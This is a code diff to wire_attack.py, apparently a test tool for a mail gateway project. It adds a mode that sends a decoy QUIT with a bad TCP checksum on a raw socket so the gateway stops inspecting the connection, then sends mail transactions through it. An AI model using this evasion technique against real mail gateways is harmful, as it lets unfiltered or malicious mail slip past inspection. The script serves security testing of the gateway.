@@ -1,5 +1,5 @@
 #!/usr/bin/env python3
-"""wire_attack.py MODE SERVER FROM: an SMTP client (IPv4) that sends
+"""wire_attack.py MODE SERVER FROM [MSGID]: an SMTP client (IPv4) that sends
 MAIL FROM:<FROM> to SERVER through the gateway while playing one of the
 on-path tricks of issue 17 on its own connection, then prints the reply
 to MAIL FROM ("CODE TEXT", "closed" or "timeout") and, if that was 250,
@@ -16,6 +16,16 @@ MODE:
   rst     MAIL FROM in two segments, between them a reset with a sequence
           number one past the right one (RFC 5961: the server ignores it
           and reads the whole line)
+  quitsum a decoy QUIT with a wrong TCP checksum right after the EHLO
+          reply, at the client's next sequence number: a line the tagger
+          passes itself and copies to the daemon (docs/datapath.md), which
+          the server's stack drops. A gateway that believes it takes the
+          dialog as ended and offloads the flow. Then, with MSGID (the 4th
+          argument), one whole transaction per sender in FROM (comma
+          separated: MAIL, RCPT TO:<user@plain.test>, DATA and a message
+          whose Message-ID is <LOCAL.MSGID>, LOCAL the sender's local
+          part), each reply printed as "VERB REPLY", until one is not the
+          expected 250 or 354.
 
 The crafted segments are sent on a raw socket (IP_HDRINCL) from this
 namespace, with the connection's sequence and acknowledgement numbers read
@@ -88,6 +98,34 @@ class Tap:
             self.ack = ack
 
 
+def transactions(s, f, senders, msgid):
+    """The quitsum dialog after the decoy (see the module's comment)."""
+    for sender in senders.split(","):
+        local = sender.split("@")[0]
+        message = ("From: %s\r\nTo: user@plain.test\r\nSubject: after a decoy QUIT\r\n"
+                   "Message-ID: <%s.%s>\r\n\r\nSent after a decoy QUIT.\r\n.\r\n" %
+                   (sender, local, msgid)).encode()
+        steps = (("MAIL", b"MAIL FROM:<%s>\r\n" % sender.encode(), "250"),
+                 ("RCPT", b"RCPT TO:<user@plain.test>\r\n", "250"),
+                 ("DATA", b"DATA\r\n", "354"),
+                 ("END", message, "250"))
+        for verb, line, want in steps:
+            try:
+                s.sendall(line)
+            except OSError:
+                print(verb + " closed")
+                return
+            r = reply(f)
+            print(verb + " " + r)
+            if not r.startswith(want):
+                return
+    try:
+        s.sendall(b"QUIT\r\n")
+        print("QUIT " + reply(f))
+    except OSError:
+        print("QUIT closed")
+
+
 def main():
     mode, server, sender = sys.argv[1:4]
     tap = Tap(os.environ.get("IFACE", "eth0"))
@@ -125,6 +163,13 @@ def main():
                            0x04, b""), (server, 0))
         time.sleep(0.3)
         s.sendall(mail[half:])
+    elif mode == "quitsum":
+        raw.sendto(segment(local, lport, server, 25, tap.next_seq, tap.ack, 0x18, b"QUIT\r\n",
+                           True), (server, 0))
+        time.sleep(0.3)
+        transactions(s, f, sender, sys.argv[4])
+        s.close()
+        return 0
     else:
         print("unknown mode " + mode)
         return 2
